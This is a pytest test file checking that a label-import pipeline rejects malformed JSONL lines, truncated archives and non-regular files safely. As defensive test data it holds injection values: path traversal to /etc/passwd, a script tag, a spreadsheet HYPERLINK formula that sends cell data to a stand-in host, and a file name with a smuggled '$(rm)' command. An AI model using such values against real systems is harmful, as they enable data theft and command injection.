"""What files of labels may hold by malice or mishap: file, line and reason are told, and the rest is imported."""

import gzip
import json
import os
import tracemalloc
from collections.abc import Iterable, Iterator
from pathlib import Path
from typing import Any

import pyarrow as pa
import pytest
from django.conf import LazySettings

from exports.services import export_dataset
from labelling.corpus.services import ImportProblem
from labelling.pipeline.readback.importing import ReadbackReport, Wanted, dataset_import, files_open
from labelling.rating.models import Annotation
from tests.corpus.importing import rejected
from tests.factories import annotation_row

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://x/?"&A1)'
TRICKS = ["../../etc/passwd", "/etc/passwd", "C:\\con", "a\u202eb", "<script>", FORMULA, "%s%n{0}", "\x1b[2J", ""]


def line(number: int = 0, **changes: Any) -> bytes:
    return json.dumps(annotation_row(labeler="someone", total_time=number, **changes), ensure_ascii=False).encode()


def imported(path: Path) -> ReadbackReport:
    files = files_open(files=[str(path)], format_name="prm800k")
    return dataset_import(files=files, wanted=Wanted("back"), rejects=path.parent / "rejects.jsonl")


def reasons(path: Path) -> dict[int, str]:
    """Why, by line; each of the file that was read."""
    rows = rejected(path.parent / "rejects.jsonl")
    assert {row["file"] for row in rows} <= {str(path)}
    return {row["line"]: row["reason"] for row in rows}


def written(path: Path, lines: Iterable[bytes]) -> Path:
    path.write_bytes(b"\n".join(lines) + b"\n")
    return path


BAD: dict[str, tuple[bytes, str]] = {
    "no JSON": (b"{", "not JSON"),
    "no object": (b"[1]", "expected a JSON object"),
    "Latin-1": ('{"labeler": "é"}'.encode("latin-1"), "not UTF-8: byte 14 is 0xe9"),
    "UTF-16": ('{"labeler": "x"}'.encode("utf-16-le"), "NUL"),
    "an overlong NUL": (b'{"labeler": "\xc0\x80"}', "not UTF-8"),
    "a key twice": (b'{"labeler": "a", "labeler": "b"}', "a key stands twice"),
    "no number": (line().replace(b'"total_time": 0', b'"total_time": NaN'), "NaN is not a JSON number"),
    "nested without end": (b'{"a":' * 100_000, "not usable JSON"),
    "digits without end": (line().replace(b'"total_time": 0', b'"total_time": ' + b"9" * 5_000), "not usable JSON"),
    "half a pair": (line().replace(b"someone", b"\\ud800"), "half a surrogate pair"),
    "NUL": (line().replace(b"someone", b"\\u0000"), "NUL"),
    "another type": (line().replace(b'"total_time": 0', b'"total_time": "0"'), "`$.label.total_time`"),
    "a rating of 2": (line().replace(b'"rating": -1', b'"rating": 2'), "Invalid enum value 2"),
    "no such reason": (line(finish_reason="bored"), "label.finish_reason"),
    "a missing key": (b'{"labeler": "a"}', "missing required field"),
    "infinite": (line().replace(b'_score": 0.5', b'_score": 1e999'), "finite number"),
    "a year of five digits": (line(timestamp="12023-01-01T00:00:00"), "timestamp"),
}


@pytest.mark.parametrize("name", BAD)
def test_a_bad_line_is_told_and_its_neighbours_are_imported(name: str, tmp_path: Path) -> None:
    bad, reason = BAD[name]
    path = written(tmp_path / "labels.jsonl", [line(1), bad, line(2)])
    assert imported(path).counts.annotations_added == 2
    told = reasons(path)
    assert list(told) == [2]
    assert reason in told[2]


@pytest.mark.parametrize("suffix", ["gz", "zst"])
def test_of_a_file_that_was_cut_off_the_whole_lines_are_imported(suffix: str, tmp_path: Path) -> None:
    content = b"".join(line(number, problem=f"What is {number * 7919 % 104_729}?") + b"\n" for number in range(3_000))
    packed = gzip.compress(content) if suffix == "gz" else pa.compress(content, "zstd", asbytes=True)
    path = tmp_path / f"labels.jsonl.{suffix}"
    path.write_bytes(packed[: len(packed) * 2 // 3])
    added = imported(path).counts.annotations_added
    assert (0 if suffix == "zst" else 1_000) <= added < 3_000
    (told,) = reasons(path).items()
    assert told[0] == added + 1
    assert told[1].startswith("the compressed file is damaged from here on")


def test_a_line_of_any_length_is_skipped_in_flat_memory(tmp_path: Path, settings: LazySettings) -> None:
    settings.MAX_LINE_BYTES = 100_000
    path = tmp_path / "labels.jsonl.gz"
    with gzip.open(path, "wb", compresslevel=1) as file:
        file.write(line(1) + b'\n{"labeler": "')
        for _ in range(200):
            file.write(b"x" * 2**20)
        file.write(b'"}\n' + line(2) + b"\n")
    tracemalloc.start()
    try:
        imported(path)
        assert tracemalloc.get_traced_memory()[1] < 30 * 2**20
    finally:
        tracemalloc.stop()
    assert Annotation.objects.count() == 2
    assert reasons(path)[2] == "longer than 100,000 bytes (209,715,216)"


@pytest.mark.slow  # two gigabytes go through it
def test_a_line_of_2_gb_is_skipped_in_flat_memory(tmp_path: Path) -> None:
    path = tmp_path / "labels.jsonl"
    with path.open("wb") as file:
        file.write(line(1) + b'\n{"labeler": "' + b"x" * 2_000)
        file.seek(2**31, 1)  # a hole, which takes no room on the disk and reads as NUL
        file.write(b'"}\n' + line(2) + b"\n")
    tracemalloc.start()
    try:
        report = imported(path)
        assert tracemalloc.get_traced_memory()[1] < 64 * 2**20
    finally:
        tracemalloc.stop()
    assert (report.counts.annotations_added, report.rejected) == (2, 1)
    told = reasons(path)
    assert list(told) == [2]
    assert told[2].startswith("longer than ")
    assert told[2].endswith("(2,147,485,664)")  # 2 GB and what is written of it


def test_names_that_play_tricks_are_texts_like_all_others(tmp_path: Path) -> None:
    rows = [annotation_row(labeler=trick, problem=trick, steps=[trick, "b"], ratings=(1, -1)) for trick in TRICKS]
    path = written(tmp_path / "=1+1 ; $(rm) \x1b[2J.jsonl", [json.dumps(row).encode() for row in rows])
    assert imported(path).counts.annotations_added == len(TRICKS)
    output = tmp_path / "again.jsonl"
    export_dataset(format="prm800k", output=output, campaign="back", raters="original", card=False)
    assert output.read_bytes() == path.read_bytes()
    assert sorted(one.name for one in tmp_path.iterdir()) == sorted([path.name, "again.jsonl"])


@pytest.mark.parametrize("name", ["labels.exe", "labels.jsonl.xz", "nothing.jsonl", "labels.parquet", "list.json"])
def test_a_file_that_cannot_be_read_at_all_says_why(name: str, tmp_path: Path) -> None:
    path = tmp_path / name
    if name != "nothing.jsonl":
        path.write_bytes(b"\x00\xff")
    with pytest.raises(ImportProblem, match=name):
        list(files_open(files=[str(path)], format_name="prm800k"))


def test_what_is_no_regular_file_is_never_opened(tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "pipe.jsonl")
    (tmp_path / "folder.jsonl").mkdir()
    (tmp_path / "endless.jsonl").symlink_to("/dev/zero")
    (tmp_path / "loop.jsonl").symlink_to("loop.jsonl")
    for path in tmp_path.iterdir():
        with pytest.raises(ImportProblem, match=f"{path.name}: not a regular file"):
            files_open(files=[str(path)], format_name="prm800k")


def test_everything_at_once_and_again(tmp_path: Path) -> None:
    def lines() -> Iterator[bytes]:
        for number, (bad, _) in enumerate(BAD.values()):
            yield line(number)
            yield bad

    path = written(tmp_path / "labels.jsonl", lines())
    report = imported(path)
    assert (report.counts.annotations_added, report.rejected) == (len(BAD), len(BAD))
    again = imported(path)
    assert (again.counts.annotations_added, again.counts.annotations_known) == (0, len(BAD))
